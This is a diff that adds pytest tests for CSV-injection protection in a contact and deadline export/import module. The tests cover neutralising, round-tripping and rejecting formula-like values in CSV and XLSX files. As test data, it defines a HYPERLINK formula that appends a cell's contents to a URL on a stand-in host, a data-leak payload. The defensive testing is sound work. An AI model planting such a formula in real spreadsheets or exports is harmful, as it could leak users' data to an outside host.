@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -15,6 +17,7 @@ from sqlalchemy.orm import selectinload
 
 from eudesk.storage.db import Database, StorageError
 from eudesk.storage.models import (
+    Body,
     Contact,
     Deadline,
     Meeting,
@@ -381,3 +384,112 @@ async def test_times_are_read_and_written_in_the_zone_given(refs: Database, tmp_
     assert rows_of(out, "deadlines")[0]["due"] == "2026-06-15 16:00"
     await export_file(refs, "deadlines", out, "csv")  # Belgrade, summer time
     assert rows_of(out, "deadlines")[0]["due"] == "2026-06-15 18:00"
+
+
+# --- spreadsheet safety (CSV injection) -------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+# Text a spreadsheet would take for a formula, and text that only looks neutralised already.
+TRICKY = {"name": "@ana", "position": FORMULA, "phone": "+381 24 715 310", "email": None,
+          "slack_channel": "-C01"}  # fmt: skip
+TRICKY_NAMES = ["@ana", "-Ana-", "+Mile", "'=already", "'plain apostrophe", "Ana =x"]
+
+
+async def add_contacts(db: Database, names: list[str], **fields: Any) -> None:
+    async with db.transaction() as session:
+        body = await session.scalar(select(Body.id).where(Body.code == "LSGU-80071"))
+        assert body is not None
+        for i, name in enumerate(names):
+            session.add(Contact(ref=f"C-X{i}", body_id=body, name=name, **fields))
+
+
+async def contact_values(db: Database) -> list[tuple[str, str, str | None, str | None]]:
+    async with db.transaction() as session:
+        found = await session.scalars(select(Contact).order_by(Contact.ref))
+        return [(c.ref, c.name, c.position, c.phone) for c in found]
+
+
+async def test_a_formula_is_exported_to_csv_as_text(refs: Database, tmp_path: Path) -> None:
+    db = refs
+    await add_contacts(db, [FORMULA], position="+1 boss", phone="+381 24 715 310")
+    await import_file(db, "projects", write_csv(tmp_path / "p.csv", CANONICAL["projects"]))
+    exported = tmp_path / "contacts.csv"
+    await export_file(db, "contacts", exported, "csv")
+    raw = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
+    assert raw[0]["name"] == "'" + FORMULA  # a spreadsheet shows it as text
+    assert raw[0]["position"] == "'+1 boss"
+    assert raw[0]["phone"] == "'+381 24 715 310"
+    assert raw[0]["active"] == "true"
+    # Amounts are numbers, not neutralised text.
+    await export_file(db, "projects", tmp_path / "projects.csv", "csv")
+    projects = list(csv.DictReader(io.StringIO((tmp_path / "projects.csv").read_text("utf-8-sig"))))
+    assert projects[0]["total_budget"] == "812500.00"
+    assert not any(v.startswith("'") for p in projects for v in p.values())
+    # XLSX keeps the very text, stored as text.
+    await export_file(db, "contacts", tmp_path / "contacts.xlsx", "xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "contacts.xlsx").worksheets[0]
+    assert (sheet["C2"].value, sheet["C2"].data_type) == (FORMULA, "s")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+async def test_text_that_looks_like_a_formula_round_trips_exactly(
+    refs: Database, tmp_path: Path, fmt: Literal["csv", "xlsx"]
+) -> None:
+    db = refs
+    await add_contacts(db, TRICKY_NAMES, position=FORMULA, phone="+381 24 715 310")
+    before = await contact_values(db)
+    exported = tmp_path / f"contacts.{fmt}"
+    await export_file(db, "contacts", exported, fmt)
+    async with db.transaction() as session:
+        await session.execute(delete(Contact))
+    report = await import_file(db, "contacts", exported)
+    assert report.created == len(TRICKY_NAMES)
+    assert await contact_values(db) == before
+    # and once more, from a second export of what came back
+    again = tmp_path / f"again.{fmt}"
+    await export_file(db, "contacts", again, fmt)
+    assert rows_of(again, "contacts") == rows_of(exported, "contacts")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+async def test_names_and_titles_that_begin_with_a_formula_are_refused(
+    refs: Database, tmp_path: Path, fmt: str
+) -> None:
+    db = refs
+    contacts = write_csv(
+        tmp_path / "contacts.csv",
+        "ref,body,name,position\n"
+        "C-1,LSGU-80071,Ana Kovač,=this is a position\n"
+        f'C-2,LSGU-80071,"{FORMULA.replace(chr(34), chr(34) * 2)}",\n'
+        "C-3,LSGU-80071,'=SUM(1),\n",  # the neutralised form means the same: refused
+    )
+    deadlines = write_csv(
+        tmp_path / "deadlines.csv", "ref,kind,title,due\nD-9,report,=1+1,2026-05-01\n"
+    )
+    if fmt == "xlsx":
+        contacts, deadlines = as_xlsx(contacts), as_xlsx(deadlines)
+    with pytest.raises(ImportRejected) as caught:
+        await import_file(db, "contacts", contacts)
+    expected = [(3, "name"), (4, "name")] if fmt == "csv" else [(3, "name")]
+    assert where(caught.value) == expected
+    assert "begins with '='" in str(caught.value)
+    with pytest.raises(ImportRejected) as caught:
+        await import_file(db, "deadlines", deadlines)
+    assert where(caught.value) == [(2, "title")]
+    assert await count(db, Contact) == 0
+
+
+def as_xlsx(path: Path) -> Path:
+    """The CSV's cells in a workbook, every cell text (as a person would type them)."""
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    with path.open(encoding="utf-8", newline="") as handle:
+        for row in csv.reader(handle):
+            sheet.append(row)
+    for row in sheet.iter_rows():
+        for cell in row:
+            cell.data_type = "s"
+    target = path.with_suffix(".xlsx")
+    workbook.save(target)
+    return target
